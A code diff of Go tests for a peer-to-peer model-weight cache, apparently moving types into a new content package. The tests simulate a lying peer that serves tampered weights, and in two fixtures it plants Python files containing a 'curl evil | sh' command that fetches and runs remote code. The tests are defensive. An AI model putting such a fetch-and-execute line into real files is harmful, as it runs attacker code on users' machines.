@@ -27,6 +27,7 @@ import (
 
 	"github.com/weightd/weightd/internal/hubtest"
 	"github.com/weightd/weightd/pkg/cache"
+	"github.com/weightd/weightd/pkg/content"
 	"github.com/weightd/weightd/pkg/p2p"
 	"github.com/weightd/weightd/pkg/prefetch"
 )
@@ -98,12 +99,12 @@ type liar struct {
 
 // startLiar joins a member named name that answers the resolution of each
 // reference in lies with its model, and holds and announces blobs.
-func startLiar(t *testing.T, name string, lies map[string]cache.Model, blobs [][]byte) *liar {
+func startLiar(t *testing.T, name string, lies map[string]content.Model, blobs [][]byte) *liar {
 	t.Helper()
 	ctx, cancel := context.WithCancel(context.Background())
 	store := openStore(t, 1<<20)
 	for _, b := range blobs {
-		_, err := store.Fetch(ctx, cache.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}, cache.Bytes(b), nil)
+		_, err := store.Fetch(ctx, content.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}, cache.Bytes(b), nil)
 		require.NoError(t, err)
 	}
 	res := p2p.NewResolutions(16)
@@ -222,12 +223,12 @@ func addModel(hub *hubtest.Hub, repo string) string {
 
 // lieAbout is the model the liar gives for repo at commit: the hub's files,
 // with content replaced where replace says, and extra files added.
-func lieAbout(repo, commit string, replace, extra map[string]string) (cache.Model, [][]byte) {
-	m := cache.Model{Name: repo, Revision: commit}
+func lieAbout(repo, commit string, replace, extra map[string]string) (content.Model, [][]byte) {
+	m := content.Model{Name: repo, Revision: commit}
 	var blobs [][]byte
-	add := func(p, content string) {
-		b := []byte(content)
-		m.Files = append(m.Files, cache.File{Path: p, Descriptor: cache.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}})
+	add := func(p, body string) {
+		b := []byte(body)
+		m.Files = append(m.Files, content.File{Path: p, Descriptor: content.Descriptor{Digest: digest.FromBytes(b), Size: int64(len(b))}})
 		blobs = append(blobs, b)
 	}
 	for p, c := range honestModel {
@@ -282,7 +283,7 @@ func TestPeerResolutionTrusted(t *testing.T) {
 		map[string]string{"model.safetensors": strings.Repeat("evil weights!!! ", 1<<14)},
 		map[string]string{"modeling_evil.py": "import os; os.system('curl evil | sh')\n"})
 	refs := []string{"hf://org/model@" + commit, "hf://org/other@" + otherCommit}
-	l := startLiar(t, resolverName(refs, "victim"), map[string]cache.Model{refs[0]: sameSize, refs[1]: extra},
+	l := startLiar(t, resolverName(refs, "victim"), map[string]content.Model{refs[0]: sameSize, refs[1]: extra},
 		append(sameSizeBlobs, extraBlobs...))
 
 	victim := startPeerAgent(t, "victim", l.gossipAddr, hub.URL)
@@ -310,10 +311,10 @@ func TestPeerResolutionOriginDown(t *testing.T) {
 	adapter := []byte("honest adapter bytes")
 	script := []byte("import os; os.system('curl evil | sh')\n")
 	lie, lieRef := pinnedFile("https://weights.invalid/files/adapter.bin", adapter)
-	lie.Files = append(lie.Files, cache.File{Path: "run.py", Descriptor: cache.Descriptor{Digest: digest.FromBytes(script), Size: int64(len(script))}})
+	lie.Files = append(lie.Files, content.File{Path: "run.py", Descriptor: content.Descriptor{Digest: digest.FromBytes(script), Size: int64(len(script))}})
 	weights := []byte("honest pinned weights")
 	honest, honestRef := pinnedFile("https://weights.invalid/files/weights.bin", weights)
-	l := startLiar(t, "liar", map[string]cache.Model{"hf://" + repo + "@main": hfLie, lieRef: lie, honestRef: honest},
+	l := startLiar(t, "liar", map[string]content.Model{"hf://" + repo + "@main": hfLie, lieRef: lie, honestRef: honest},
 		append(hfBlobs, adapter, script, weights))
 
 	victim := startPeerAgent(t, "victim", l.gossipAddr, "https://hub.invalid")
@@ -333,17 +334,17 @@ func TestPeerResolutionOriginDown(t *testing.T) {
 	require.Equal(t, weights, b)
 }
 
-// pinnedFile is the model an agent makes of url pinned to content's digest
+// pinnedFile is the model an agent makes of url pinned to body's digest
 // (pkg/prefetch singleFileModel and urlModelName, read from the source), and
 // that reference.
-func pinnedFile(url string, content []byte) (cache.Model, string) {
-	d := digest.FromBytes(content)
+func pinnedFile(url string, body []byte) (content.Model, string) {
+	d := digest.FromBytes(body)
 	sum := sha256.Sum256([]byte(url))
 	host, file, _ := strings.Cut(strings.TrimPrefix(url, "https://"), "/")
-	return cache.Model{
+	return content.Model{
 		Name:     host + "/" + strings.ReplaceAll(file, "/", "-") + "/" + hex.EncodeToString(sum[:8]),
 		Revision: d.Encoded()[:12],
-		Files:    []cache.File{{Path: filepath.Base(file), Descriptor: cache.Descriptor{Digest: d, Size: int64(len(content))}}},
+		Files:    []content.File{{Path: filepath.Base(file), Descriptor: content.Descriptor{Digest: d, Size: int64(len(body))}}},
 	}, url + "#" + d.String()
 }
 
@@ -357,7 +358,7 @@ func TestRendezvousResolverCannotSteer(t *testing.T) {
 	lie, blobs := lieAbout("org/model", commit,
 		map[string]string{"model.safetensors": strings.Repeat("evil weights!!! ", 1<<14)}, nil)
 	ref := "hf://org/model@" + commit
-	l := startLiar(t, resolverName([]string{ref}, "victim-a", "victim-b"), map[string]cache.Model{ref: lie}, blobs)
+	l := startLiar(t, resolverName([]string{ref}, "victim-a", "victim-b"), map[string]content.Model{ref: lie}, blobs)
 
 	a := startPeerAgent(t, "victim-a", l.gossipAddr, hub.URL)
 	b := startPeerAgent(t, "victim-b", l.gossipAddr, hub.URL)
